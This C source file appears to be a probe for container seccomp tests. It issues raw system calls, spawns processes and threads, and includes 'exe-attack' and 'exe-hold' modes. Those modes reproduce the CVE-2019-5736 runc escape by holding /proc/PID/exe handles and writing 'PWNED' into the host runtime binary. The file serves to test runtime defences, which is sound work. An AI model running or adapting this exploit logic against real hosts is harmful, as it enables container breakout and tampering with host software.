/* sysprobe: what the kernel answers a container, for the seccomp tests.
 * Static, so it runs in a busybox rootfs.
 *   sysprobe NR [ARG...]   one system call by number, integer arguments
 *                          (@text passes a pointer to "text"): prints
 *                          "ret=R errno=E"
 *   sysprobe spawn PATH    posix_spawn (glibc tries clone3 first and falls
 *                          back to clone on ENOSYS): "spawn status=S" or
 *                          "spawn errno=E"
 *   sysprobe thread        pthread_create (clone3 first too): "thread ok"
 *                          or "thread errno=E"
 *   sysprobe exe-attack DEV INO SECONDS NAME
 *                          CVE-2019-5736 from inside: for SECONDS, open
 *                          /proc/PID/exe of every other process (O_PATH,
 *                          and O_WRONLY), keep what is the runtime's binary
 *                          (DEV:INO as the host sees it), and keep trying to
 *                          reopen those through /proc/self/fd for writing,
 *                          as the exploit does once the runtime has exited.
 *                          Prints "seen=S opened=O wrote=W" (S: processes
 *                          whose comm starts with NAME, O: opens of the
 *                          binary, W: writes)
 *                          then the errno of each failed open, counted,
 *                          and of each failed reopen ("reopen errno E: N")
 *   sysprobe exe-hold DEV INO SECONDS REPORT
 *                          the same from a hook: open /proc/PPID/exe (the
 *                          runtime process that runs the hook), then fork
 *                          and return at once, so the runtime goes on; the
 *                          child keeps reopening the handle for writing for
 *                          SECONDS and writes "parent=P opened=O wrote=W"
 *                          (P: 1 if /proc/PPID/exe opened at all, O: 1 if it
 *                          was the binary DEV:INO) and reopen errnos to
 *                          REPORT */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <time.h>
#include <sys/stat.h>
#include <pthread.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <sys/wait.h>

extern char **environ;

static void *nothing(void *arg)
{
	return arg;
}

/* What the exploit does once the runtime is gone: the binary is no longer
 * busy, and a held handle reopens for writing. 1 if it wrote. */
static int reopen_and_write(int held, int *errs)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	int w = open(path, O_WRONLY);
	if (w < 0) {
		if (errno < 256)
			errs[errno]++;
		return 0;
	}
	int wrote = write(w, "PWNED", 5) == 5;
	close(w);
	return wrote;
}

static int exe_attack(dev_t dev, ino_t ino, int seconds, const char *name)
{
	int held[256], nheld = 0, seen = 0, opened = 0, wrote = 0;
	int errs[256] = {0}, reopen_errs[256] = {0};
	char seen_pids[65536] = {0};
	time_t end = time(NULL) + seconds;
	pid_t self = getpid();
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d)) != NULL) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == self)
				continue;
			char path[64], comm[32] = {0};
			snprintf(path, sizeof path, "/proc/%d/comm", pid);
			int c = open(path, O_RDONLY);
			if (c >= 0) {
				if (read(c, comm, sizeof comm - 1) > 0 && strncmp(comm, name, strlen(name)) == 0 &&
				    pid < 65536 && !seen_pids[pid]) {
					seen_pids[pid] = 1;
					seen++;
				}
				close(c);
			}
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int w = open(path, O_WRONLY);
			if (w >= 0) {
				struct stat st;
				if (fstat(w, &st) == 0 && st.st_dev == dev && st.st_ino == ino && write(w, "PWNED", 5) == 5)
					wrote++;
				close(w);
			} else if (errno < 256) {
				errs[errno]++;
			}
			int fd = open(path, O_PATH);
			if (fd < 0) {
				if (errno < 256)
					errs[errno]++;
				continue;
			}
			struct stat st;
			if (fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino && nheld < 256) {
				held[nheld++] = fd;
				opened++;
			} else {
				close(fd);
			}
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nheld; i++)
			wrote += reopen_and_write(held[i], reopen_errs);
	}
	printf("seen=%d opened=%d wrote=%d\n", seen, opened, wrote);
	for (int i = 0; i < 256; i++)
		if (errs[i])
			printf("errno %d: %d\n", i, errs[i]);
	for (int i = 0; i < 256; i++)
		if (reopen_errs[i])
			printf("reopen errno %d: %d\n", i, reopen_errs[i]);
	return 0;
}

static int exe_hold(dev_t dev, ino_t ino, int seconds, const char *report)
{
	char path[64];
	int reopen_errs[256] = {0}, wrote = 0, opened = 0;
	snprintf(path, sizeof path, "/proc/%d/exe", (int)getppid());
	int fd = open(path, O_PATH);
	struct stat st;
	if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino)
		opened = 1;
	pid_t child = fork();
	if (child != 0)
		return child < 0;
	/* Out of the runtime's way: no stdio it might wait on. */
	setsid();
	int null = open("/dev/null", O_RDWR);
	dup2(null, 0);
	dup2(null, 1);
	dup2(null, 2);
	time_t end = time(NULL) + seconds;
	while (opened && time(NULL) < end) {
		wrote += reopen_and_write(fd, reopen_errs);
		usleep(1000);
	}
	char tmp[4096];
	snprintf(tmp, sizeof tmp, "%s.tmp", report);
	FILE *out = fopen(tmp, "w");
	if (!out)
		return 1;
	fprintf(out, "parent=%d opened=%d wrote=%d\n", fd >= 0, opened, wrote);
	for (int i = 0; i < 256; i++)
		if (reopen_errs[i])
			fprintf(out, "reopen errno %d: %d\n", i, reopen_errs[i]);
	fclose(out);
	return rename(tmp, report) != 0;
}

int main(int argc, char **argv)
{
	if (argc == 6 && strcmp(argv[1], "exe-hold") == 0)
		return exe_hold(strtoul(argv[2], NULL, 0), strtoul(argv[3], NULL, 0), atoi(argv[4]), argv[5]);
	if (argc == 6 && strcmp(argv[1], "exe-attack") == 0)
		return exe_attack(strtoul(argv[2], NULL, 0), strtoul(argv[3], NULL, 0), atoi(argv[4]), argv[5]);
	long a[6] = {0};
	if (argc == 3 && strcmp(argv[1], "spawn") == 0) {
		pid_t pid;
		char *args[] = {argv[2], NULL};
		int e = posix_spawn(&pid, argv[2], NULL, NULL, args, environ);
		if (e != 0) {
			printf("spawn errno=%d\n", e);
			return 0;
		}
		int st = 0;
		waitpid(pid, &st, 0);
		printf("spawn status=%d\n", WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st));
		return 0;
	}
	if (argc == 2 && strcmp(argv[1], "thread") == 0) {
		pthread_t t;
		int e = pthread_create(&t, NULL, nothing, NULL);
		if (e != 0) {
			printf("thread errno=%d\n", e);
			return 0;
		}
		pthread_join(t, NULL);
		printf("thread ok\n");
		return 0;
	}
	if (argc < 2 || argc > 8) {
		fprintf(stderr, "usage: sysprobe NR [ARG...] | spawn PATH | thread\n");
		return 2;
	}
	for (int i = 2; i < argc; i++)
		a[i - 2] = argv[i][0] == '@' ? (long)(argv[i] + 1) : strtol(argv[i], NULL, 0);
	errno = 0;
	long r = syscall(strtol(argv[1], NULL, 0), a[0], a[1], a[2], a[3], a[4], a[5]);
	printf("ret=%ld errno=%d\n", r, r == -1 ? errno : 0);
	return 0;
}
